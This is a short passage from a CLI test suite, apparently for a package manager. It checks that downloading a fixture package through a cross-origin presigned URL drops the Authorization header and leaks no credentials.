  it('follows a download to a presigned URL on another origin, without the Authorization header', async () => {
    const before = reachedElsewhere.length;
    const out = path.join(work.dir, 'presigned');
    const result = await run(['pull', 'evil@1.0.0', '-o', out, '--format', 'json'], { env: await stored('presigned') });
    expect(result.status, result.stderr).toBe(0);
    const pulled = JSON.parse(result.stdout) as { file: string; digest: string };
    expect(sha256File(pulled.file)).toBe(digestOf(PACK));
    expect(reachedElsewhere.slice(before)).toEqual([
      { method: 'GET', url: '/bucket/evil.zip?X-Amz-Signature=s', authorization: undefined, body: '' },
    ]);
    expect(leakedSince(before)).toEqual([]);
  });
});
